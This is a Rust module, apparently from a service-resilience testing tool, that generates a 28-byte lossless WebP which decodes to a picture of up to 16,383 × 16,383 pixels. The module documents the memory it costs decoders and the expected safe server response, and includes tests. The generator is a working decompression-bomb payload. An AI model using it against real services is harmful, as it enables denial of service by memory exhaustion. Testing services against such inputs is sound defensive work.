//! A tiny WebP that decodes to a huge picture.
//!
//! Lossless WebP (RFC 9649) in which each of the five prefix codes has one symbol: a pixel costs no bit at
//! all, and the file is as long for the largest picture as for the smallest.

use bytes::Bytes;

use super::sides::{chosen, height, width};
use crate::payload::bits::Bits;
use crate::payload::pieces::once;
use crate::payload::{About, Body, Family, Form, Group, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "webp-bomb",
    group: Group::Images,
    about: About {
        summary: "A WebP of 28 bytes that decodes to a huge picture.",
        provokes: "Every service that takes WebP because its library does: a limit on the size of the upload says \
                   nothing, pixels cost no bits. libwebp's animation decoder holds two canvases before the first \
                   pixel is asked for.",
        seen: "golang/go issue 80254 (28 bytes to 1 GB) and issue 80063, image-rs/image issue 1138.",
        becomes: "10,000 × 10,000 is 28 bytes on the wire and 1.5 GiB in Pillow; the largest, 16,383 × 16,383, 28 bytes \
                  too and 2.7 times as much.",
        safe: "4xx after the 25 bytes that hold width and height.",
    },
    // Sides have 14 bits, and some decoders take the largest for none.
    parameters: &[width(16_383, 10_000), height(16_383, 10_000)],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let (width, height) = chosen(values);
    let file = file(width, height);
    Body::new("image/webp", file.len() as u64, once(file))
}

fn file(width: u32, height: u32) -> Bytes {
    let mut bits = Bits::default();
    bits.push((0x2f, 8));
    bits.push((width - 1, 14));
    bits.push((height - 1, 14));
    // No alpha, version 0; no transform, no colour cache, one set of codes.
    bits.push((0, 4 + 3));
    // Green, red, blue, alpha, distance: a simple code (1) of one symbol (0) that has one bit (0): 0.
    for _ in 0..5 {
        bits.push((0b0001, 4));
    }
    let mut data = bits.bytes();
    let length = data.len() as u32;
    data.resize(data.len().next_multiple_of(2), 0);
    let riff = (data.len() as u32 + 12).to_le_bytes();
    [&b"RIFF"[..], &riff, b"WEBPVP8L", &length.to_le_bytes(), &data].concat().into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_real_decoder_reads_every_pixel() {
        for (width, height) in [(1, 1), (3, 7), (1000, 800), (16_383, 200), (200, 16_383)] {
            let mut decoder = image_webp::WebPDecoder::new(std::io::Cursor::new(file(width, height))).unwrap();
            assert_eq!(decoder.dimensions(), (width, height));
            let mut samples = vec![1; decoder.output_buffer_size().unwrap()];
            decoder.read_image(&mut samples).unwrap();
            assert_eq!(samples.len(), 3 * width as usize * height as usize);
            assert!(samples.iter().all(|sample| *sample == 0));
        }
    }

    #[test]
    fn the_largest_picture_is_28_bytes() {
        assert_eq!(file(16_383, 16_383).len(), 28);
    }
}
